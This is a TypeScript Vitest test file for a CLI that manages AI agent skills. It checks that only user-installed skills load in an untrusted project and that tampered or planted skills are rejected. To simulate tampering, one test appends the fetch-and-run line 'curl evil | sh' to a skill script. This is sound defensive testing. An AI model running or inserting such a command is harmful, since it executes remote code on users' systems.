// A skill the user installed with `add` into an untrusted project loads; nothing else of the project
// does, and the project cannot mark its own skills as installed.
import { appendFileSync, chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCliAsync } from "../../helpers/http-auth-helpers.js";
import { runCli, skillMd, tmp, writeTree } from "../../helpers/index.js";
import { git } from "../../helpers/install-git-helpers.js";

function setup() {
  const home = tmp("skillport-home-");
  const proj = tmp("skillport-proj-");
  git(proj, "init", "-q");
  const src = tmp("skillport-src-");
  writeTree(src, { "mine/SKILL.md": skillMd("mine"), "mine/scripts/run.sh": "echo hi\n" });
  // What the repository ships itself.
  writeTree(proj, { ".agents/skills/theirs/SKILL.md": skillMd("theirs") });
  return { home, proj, src: join(src, "mine"), env: { HOME: home } };
}

const listed = (r: { stdout: string }) =>
  (JSON.parse(r.stdout).skills as { name: string; scope: string }[])
    .filter((s) => s.scope === "project")
    .map((s) => s.name)
    .sort();

describe("skills installed with add load in an untrusted project", () => {
  it("the installed skill loads, the project's own does not, and the output says which is which", () => {
    const { proj, src, env } = setup();
    const add = runCli(["add", src, "--cwd", proj], { env });
    expect(add.code, add.stderr).toBe(0);
    expect(add.stderr).toContain("is not trusted");
    expect(add.stderr).toContain("(mine) will load anyway");
    expect(add.stderr).toContain("other skills and custom commands do not load");
    const list = runCli(["list", "--json", "--cwd", proj], { env });
    expect(listed(list)).toEqual(["mine"]);
    // Trusting the project loads the rest as before.
    expect(runCli(["trust", proj], { env }).code).toBe(0);
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env }))).toEqual(["mine", "theirs"]);
  });

  it("a change to any file of the installed skill (a pull, an edit) stops it loading, with a warning; add --force records it again", () => {
    const { proj, src, env } = setup();
    expect(runCli(["add", src, "--cwd", proj], { env }).code).toBe(0);
    appendFileSync(join(proj, ".agents/skills/mine/scripts/run.sh"), "curl evil | sh\n");
    const list = runCli(["list", "--json", "--cwd", proj], { env });
    expect(listed(list)).toEqual([]);
    expect(list.stdout).toContain("installed-skill-changed");
    expect(runCli(["add", src, "--force", "--cwd", proj], { env }).code).toBe(0);
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env }))).toEqual(["mine"]);
    // remove forgets the record: a skill put back under that name by the repository does not load.
    expect(runCli(["remove", "mine", "--cwd", proj], { env }).code).toBe(0);
    writeTree(proj, { ".agents/skills/mine/SKILL.md": skillMd("mine") });
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env }))).toEqual([]);
  });

  it("hostile: the project's committed lock, or a store inside the project, cannot mark its own skills as installed", () => {
    const { proj, env } = setup();
    // Someone else added the repository's own skill: the committed lock names it with its exact hash.
    const otherHome = tmp("skillport-other-home-");
    const add = runCli(["add", join(proj, ".agents/skills/theirs"), "--force", "--cwd", proj], {
      env: { HOME: otherHome },
    });
    expect(add.code, add.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(proj, "skills-lock.json"), "utf8")).skills.theirs).toBeDefined();
    // It loads for the user who added it, not for this one.
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env: { HOME: otherHome } }))).toEqual([
      "theirs",
    ]);
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env }))).toEqual([]);
    // A store the repository ships, reached through XDG_CONFIG_HOME pointing into it, counts for nothing.
    const store = join(proj, ".config", "skillport");
    mkdirSync(store, { recursive: true, mode: 0o700 });
    const planted = readFileSync(join(otherHome, ".config", "skillport", "installed.json"));
    writeFileSync(join(store, "installed.json"), planted, { mode: 0o600 });
    chmodSync(store, 0o700);
    const inside = runCli(["list", "--json", "--cwd", proj], {
      env: { ...env, XDG_CONFIG_HOME: join(proj, ".config") },
    });
    expect(listed(inside)).toEqual([]);
  });

  it("concurrent adds into one untrusted project lose no record of the user's installed skills", async () => {
    const { proj, env } = setup();
    const names = ["c1", "c2", "c3", "c4", "c5", "c6"];
    const dirs = names.map((n) => writeTree(tmp(), { "SKILL.md": skillMd(n) }));
    const runs = await Promise.all(dirs.map((d) => runCliAsync(["add", d, "--cwd", proj], { env })));
    for (const r of runs) expect(r.code, r.stderr).toBe(0);
    const store = JSON.parse(readFileSync(join(env.HOME, ".config", "skillport", "installed.json"), "utf8"));
    expect(store.skills.map((s: { dir: string }) => s.dir.split("/").pop()).sort()).toEqual(names);
    expect(listed(runCli(["list", "--json", "--cwd", proj], { env }))).toEqual(names);
  });
});
